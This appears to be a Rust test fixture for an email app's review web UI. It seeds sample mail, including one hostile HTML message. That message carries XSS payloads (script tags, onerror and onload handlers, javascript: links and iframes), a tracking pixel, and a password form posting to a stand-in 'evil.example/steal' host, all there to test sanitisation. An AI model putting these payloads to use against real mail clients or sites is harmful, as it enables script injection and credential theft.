//! A seeded review UI for the web tests: the demo inbox, three more thank-you
//! notes (so similar routine drafts form a group), a request whose reply
//! commits to act (a second draft that waits with nothing to fill in), and a
//! hostile HTML message,
//! served on a free loopback port with the outbox delivering into a Maildir.

#![allow(dead_code)]

use std::path::{Path, PathBuf};

use autoemail::App;
use autoemail::pipeline::Source;
use autoemail::web::WebServer;

pub const HOSTILE: &str = "From: Mallory Grey <mallory@evil.example>\r\n\
To: Sam Carter <sam@northwind.example>\r\n\
Subject: <img src=x onerror=\"window.__pwned=1\"> Invoice <script>window.__pwned=2</script>\r\n\
Message-ID: <hostile-1@evil.example>\r\n\
Date: Mon, 23 Nov 2026 09:00:00 +0000\r\n\
MIME-Version: 1.0\r\n\
Content-Type: text/html; charset=utf-8\r\n\
\r\n\
<html><head><script>window.__pwned=3</script><style>body{display:none}</style></head><body>\r\n\
<p>Hello Sam, can you confirm our meeting on Thursday?</p>\r\n\
<img src=\"https://tracker.evil.example/p.gif\" onerror=\"window.__pwned=4\">\r\n\
<a href=\"javascript:window.__pwned=5\">details</a>\r\n\
<svg onload=\"window.__pwned=6\"><circle r=\"1\"/></svg>\r\n\
<iframe src=\"javascript:window.__pwned=7\"></iframe>\r\n\
<form action=\"https://evil.example/steal\"><input name=\"pw\"></form>\r\n\
<p>Thanks, Mallory</p></body></html>\r\n";

/// A request without a question: its reply promises to look into it, so it
/// waits for review with no placeholder.
const REQUEST: &str = "From: Nora Hale <nora@hale-studio.example>\r\nTo: Sam Carter <sam@northwind.example>\r\nSubject: Floor plan\r\n\
Message-ID: <floor-plan-1@hale-studio.example>\r\nDate: Mon, 23 Nov 2026 10:30:00 +0000\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
Hi Sam,\r\n\r\nPlease send me the updated floor plan when you have it.\r\n\r\nNora\r\n";

fn thank_you(n: usize, name: &str, email: &str) -> String {
    format!(
        "From: {name} <{email}>\r\nTo: Sam Carter <sam@northwind.example>\r\nSubject: Thank you for the samples\r\n\
Message-ID: <thanks-{n}@clients.example>\r\nDate: Mon, 23 Nov 2026 1{n}:00:00 +0000\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
Hi Sam,\r\n\r\nThank you so much for the samples, they arrived today and look great.\r\n\r\nBest,\r\n{name}\r\n"
    )
}

pub struct Seeded {
    pub dir: tempfile::TempDir,
    pub app: App,
    pub server: WebServer,
    pub outbox: PathBuf,
    worker: tokio::task::JoinHandle<()>,
}

impl Drop for Seeded {
    fn drop(&mut self) {
        self.worker.abort();
        self.server.task.abort();
    }
}

/// `extra_web` is added to the [web] section (e.g. a password_hash).
pub async fn seeded(undo_seconds: u64, extra_web: &str) -> Seeded {
    let dir = tempfile::tempdir().unwrap();
    let config = format!(
        "[account]\nname = \"demo\"\naddress = \"sam@northwind.example\"\ndisplay_name = \"Sam Carter\"\n\n[store]\npath = \"demo.sqlite\"\n\n\
[outbox]\nhold_seconds = 0\nmaildir = \"sent-mail\"\n\n[policy]\ndefault = \"review\"\n\n\
[web]\nbind = \"127.0.0.1:0\"\nundo_seconds = {undo_seconds}\n{extra_web}\n"
    );
    autoemail::config::write_private(&dir.path().join("config.toml"), &config).unwrap();
    let (app, summary) = autoemail::demo::prepare(dir.path(), false).await.unwrap();
    for (i, (name, email)) in [("Ava Brooks", "ava@brooks.example"), ("Leo Park", "leo@park.example"), ("Mia Stone", "mia@stone.example")].iter().enumerate() {
        app.ingest(thank_you(i + 1, name, email).as_bytes(), Source { mailbox: "INBOX", uid: None, uidvalidity: None }).await.unwrap();
    }
    app.ingest(REQUEST.as_bytes(), Source { mailbox: "INBOX", uid: None, uidvalidity: None }).await.unwrap();
    app.ingest(HOSTILE.as_bytes(), Source { mailbox: "INBOX", uid: None, uidvalidity: None }).await.unwrap();
    let server = autoemail::web::serve(vec![app.clone()], "tester").await.unwrap();
    let worker = autoemail::outbox::spawn_worker(app.clone(), app.sender().unwrap(), None, std::time::Duration::from_millis(300));
    Seeded { outbox: summary.outbox, dir, app, server, worker }
}

/// Files in the Maildir whose Message-ID was made for this draft.
pub fn sent_for_draft(outbox: &Path, draft_id: i64) -> usize {
    let Ok(entries) = std::fs::read_dir(outbox.join("new")) else { return 0 };
    let marker = format!("autoemail.{draft_id}.");
    entries.filter_map(|e| std::fs::read_to_string(e.ok()?.path()).ok()).filter(|text| text.contains(&marker)).count()
}

pub fn sent_total(outbox: &Path) -> usize {
    std::fs::read_dir(outbox.join("new")).map(|d| d.count()).unwrap_or(0)
}
